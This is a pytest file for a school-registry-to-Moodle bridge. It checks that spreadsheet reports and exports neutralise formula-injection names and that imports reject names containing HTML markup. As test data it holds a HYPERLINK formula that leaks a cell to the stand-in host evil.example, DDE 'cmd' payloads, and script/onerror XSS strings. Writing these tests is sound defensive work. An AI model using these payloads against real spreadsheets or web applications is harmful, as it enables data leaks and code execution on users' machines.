"""Attacks through names in schools' lists that end up in spreadsheets: formula injection into the reports
and the registry export (XLSX and CSV), and markup that Moodle refuses on every sync."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from bridge.transfer import ImportRejected, export_registry, import_path, import_tables
from tests.web.conftest import download_report
from tests.web.test_access import _login
from transfer.helpers import district, registry_state

# What a spreadsheet program would run: a link that leaks the next cell, DDE, an @-function, arithmetic.
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Подробнее")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3", "'=1+1"]


def _students_with_formula_names() -> list[dict[str, str]]:
    return [{"student_id": f"SCH01-X{i}", "last_name": name, "first_name": "Анна", "school_id": "SCH01", "grade": "11"}
            for i, name in enumerate(FORMULAS)]


def _xlsx_cells(data: bytes) -> dict[str, openpyxl.cell.Cell]:
    """Every non-empty text cell of a workbook, as the file stores it (formulas not evaluated)."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    return {c.value: c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None}


def test_formula_names_in_downloaded_reports_are_text(client, session, accounts, worker):
    """Formula injection into the reports: a student named =HYPERLINK(...), +cmd|..., @SUM(...), -2+3 is a
    text cell in the XLSX report (not a formula) and starts with ' in the CSV report (not run by Excel)."""
    import_tables(session, {"students": _students_with_formula_names(),
                            "enrolments": [{"student_id": f"SCH01-X{i}", "course_code": "NC-CHEM-11",
                                            "starts_on": "2026-09-01"} for i in range(len(FORMULAS))]})
    session.commit()
    _login(client, "admin")
    xlsx = download_report(client, worker, "report=attendance", "xlsx").data
    cells = _xlsx_cells(xlsx)
    for name in FORMULAS:
        cell = cells[f"{name} Анна"]
        assert cell.data_type == "s", f"{name!r} was written as a formula"
    rows = list(csv.reader(io.StringIO(download_report(client, worker, "report=attendance", "csv").data
                                       .decode("utf-8-sig")), delimiter=";"))
    names = {row[2] for row in rows[1:]}
    for name in FORMULAS:
        assert f"'{name} Анна" in names
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formula_names_in_registry_export_are_text_and_reimport_unchanged(session, tmp_path, fmt):
    """Formula injection into the registry export: names are text cells (XLSX) or neutralised with a
    leading ' (CSV), and importing the export back still changes nothing."""
    tables = district()
    tables["students"] += [{**row, "school_id": "sch-01", "grade": "9"} for row in _students_with_formula_names()]
    import_tables(session, tables)
    before = registry_state(session)
    out = tmp_path / ("export.xlsx" if fmt == "xlsx" else "export")
    export_registry(session, out, fmt)
    if fmt == "xlsx":
        cells = _xlsx_cells(out.read_bytes())
        assert all(cells[name].data_type == "s" for name in FORMULAS)
    else:
        with (out / "students.csv").open(encoding="utf-8-sig", newline="") as fh:
            last_names = {row["last_name"] for row in csv.DictReader(fh)}
        assert {"'" + name for name in FORMULAS} <= last_names
    report = import_path(session, out)
    assert not report.changed
    assert registry_state(session) == before


@pytest.mark.parametrize(("template", "column", "value"), [
    ("students", "last_name", "<script>alert(1)</script>"),
    ("teachers", "first_name", "<b>Ирина</b>"),
    ("courses", "title", "Химия <img src=x onerror=alert(1)>"),
    ("schools", "name", "МОУ СОШ № 1 >"),
])
def test_import_rejects_markup_in_names_and_titles(session, template, column, value):
    """Markup in names and titles (Moodle refuses it on every sync, and the records depending on it are
    skipped): the import is rejected with a message naming the file, row and column, and changes nothing."""
    tables = district()
    import_tables(session, district())
    before = registry_state(session)
    tables[template][0][column] = value
    with pytest.raises(ImportRejected) as rejected:
        import_tables(session, tables)
    (problem,) = rejected.value.problems
    assert (problem.file, problem.row, problem.column, problem.code) == (template, 2, column, "markup")
    assert "may not contain < or >" in str(problem) and value in str(problem)
    assert "не может содержать < и >" in problem.reason_in("ru")
    assert registry_state(session) == before
